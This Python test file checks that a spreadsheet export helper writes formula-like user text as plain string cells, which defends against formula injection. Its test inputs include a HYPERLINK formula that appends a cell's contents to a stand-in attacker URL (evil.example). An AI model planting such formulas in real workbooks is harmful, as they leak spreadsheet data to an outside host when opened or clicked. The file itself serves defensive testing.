"""Typed text never becomes a formula in an exported workbook (issue 8/10: formula injection)."""

from __future__ import annotations

import io
from decimal import Decimal

import pytest
import xlsxwriter
from openpyxl import Workbook, load_workbook

from govit.core.spreadsheets import row_append, xlsx_row_write


@pytest.mark.parametrize(
    "typed",
    ['=HYPERLINK("http://evil.example/?"&A1,"点击")', "+1+1", "-2+3", "@SUM(A1:A2)", "=1+1", "\t=1"],
)
def test_formula_like_text_is_written_and_read_back_as_text(typed: str) -> None:
    book = Workbook()
    sheet = book.active
    assert sheet is not None
    row_append(sheet, ["项目", typed, 12, None])
    buffer = io.BytesIO()
    book.save(buffer)
    reread = load_workbook(io.BytesIO(buffer.getvalue()))
    cells = next(iter(reread.active.iter_rows(values_only=False)))  # type: ignore[union-attr]
    assert cells[1].value == typed
    assert cells[1].data_type == "s"  # a string cell, not a formula ("f")
    assert cells[2].value == 12 and cells[2].data_type == "n"


def test_plain_openpyxl_would_have_made_a_formula() -> None:
    """The hazard the helper exists for: without it openpyxl stores such text as a formula."""
    book = Workbook()
    sheet = book.active
    assert sheet is not None
    sheet.append(["=1+1"])
    assert sheet["A1"].data_type == "f"


def test_appending_a_row_never_measures_the_sheet(monkeypatch: pytest.MonkeyPatch) -> None:
    """openpyxl works out ``max_row`` / ``max_column`` by looking at every cell, so asking for them per row
    makes an export of n rows cost n² (a 10,000-row annual plan took minutes). ``row_append`` must not."""
    from openpyxl.worksheet.worksheet import Worksheet

    def measured(_sheet: Worksheet) -> int:
        raise AssertionError("the sheet's size was worked out")

    book = Workbook()
    sheet = book.active
    assert sheet is not None
    monkeypatch.setattr(Worksheet, "max_row", property(measured))
    monkeypatch.setattr(Worksheet, "max_column", property(measured))
    first = row_append(sheet, ["序号", "项目"])
    second = row_append(sheet, [1, "=1+1"])
    assert [c.row for c in first + second] == [1, 1, 2, 2]
    assert second[1].value == "=1+1" and second[1].data_type == "s"


@pytest.mark.parametrize(
    "typed",
    ['=HYPERLINK("http://evil.example/?"&A1,"点击")', "+1+1", "-2+3", "@SUM(A1:A2)", "=1+1", "\t=1"],
)
def test_the_large_exports_writer_keeps_formula_like_text_as_text(typed: str) -> None:
    """``xlsx_row_write`` (XlsxWriter, row by row) gives the same guarantee as ``row_append``; amounts stay
    numbers, exact to the yuan in 万元."""
    buffer = io.BytesIO()
    book = xlsxwriter.Workbook(buffer, {"constant_memory": True, "in_memory": True})
    sheet = book.add_worksheet("表")
    plain = book.add_format({})
    xlsx_row_write(sheet, 0, ["项目", typed, Decimal("1234.5678"), None], [plain] * 4)
    book.close()
    cells = next(iter(load_workbook(io.BytesIO(buffer.getvalue())).active.iter_rows()))  # type: ignore[union-attr]
    assert cells[1].value == typed
    assert cells[1].data_type == "s"
    assert Decimal(str(cells[2].value)) == Decimal("1234.5678") and cells[2].data_type == "n"
    assert cells[3].value is None
